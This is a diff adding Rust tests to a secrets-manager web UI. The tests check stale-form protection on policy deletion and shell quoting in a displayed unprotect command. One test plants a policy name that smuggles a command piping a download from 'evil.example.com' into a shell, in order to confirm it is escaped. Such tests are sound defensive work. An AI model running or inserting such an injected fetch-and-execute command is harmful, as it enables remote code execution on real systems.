@@ -237,8 +237,38 @@ async fn a_policy_that_guards_something_goes_only_with_a_word_for_it() {
     assert_eq!(refused.status, 409, "{}", refused.text());
     assert!(refused.text().contains("Policy office guards sk_token"), "{}", refused.text());
     assert_eq!(scene.reads("sk_token").await, 403);
-    assert_eq!(scene.goes(&delete, &[("release", "yes")]).await, format!("{POLICIES}?said=policy-deleted"));
-    assert_eq!(scene.reads("sk_token").await, 200);
+    // What came under it since the page was shown is not let go unseen.
+    scene.goes(&format!("{policy}/bind"), &[("secret", "sk_api"), ("was", "")]).await;
+    let shown = |page: &str| ["revision", "guards"].map(|it| hidden(page, it));
+    let [revision, guards] = shown(&warned);
+    let fields = [("release", "yes"), ("revision", revision.as_str()), ("guards", guards.as_str())];
+    let stale = scene.owner.form(&scene.server, &delete, &fields).await;
+    assert_eq!(stale.status, 409, "{}", stale.text());
+    assert!(stale.text().contains("guards others than you saw: open the page again"), "{}", stale.text());
+    assert_eq!((scene.reads("sk_token").await, scene.reads("sk_api").await), (403, 403));
+    let [revision, guards] = shown(&scene.page(&delete).await);
+    let fields = [("release", "yes"), ("revision", revision.as_str()), ("guards", guards.as_str())];
+    assert_eq!(scene.goes(&delete, &fields).await, format!("{POLICIES}?said=policy-deleted"));
+    assert_eq!((scene.reads("sk_token").await, scene.reads("sk_api").await), (200, 200));
+}
+
+/// What stands in a field that is not seen.
+fn hidden(page: &str, name: &str) -> String {
+    let before = format!("name=\"{name}\" value=\"");
+    let (_, rest) = page.split_once(&before).unwrap_or_else(|| panic!("no {name} in {page}"));
+    rest.split_once('"').unwrap().0.to_owned()
+}
+
+#[tokio::test]
+async fn the_command_that_lifts_a_protection_has_the_name_as_one_word() {
+    let scene = Scene::new().await;
+    let document = PolicyDocument { ip_allowlist: Some(vec!["10.0.0.0/8".into()]), ..PolicyDocument::default() };
+    let hostile = Policy { name: "x; curl 'evil.example.com' | sh".into(), protected: true, ..policy(document) };
+    scene.server.put(Entity::Policy(hostile.clone())).await;
+    let shown = scene.page(&format!("{POLICIES}/{}", hostile.id)).await;
+    let (_, rest) = shown.split_once("policy unprotect").unwrap();
+    let command = rest.split_once("</code>").unwrap().0.replace("&#39;", "'");
+    assert!(command.ends_with(r"--name 'x; curl '\''evil.example.com'\'' | sh'"), "{command}");
 }
 
 #[tokio::test]
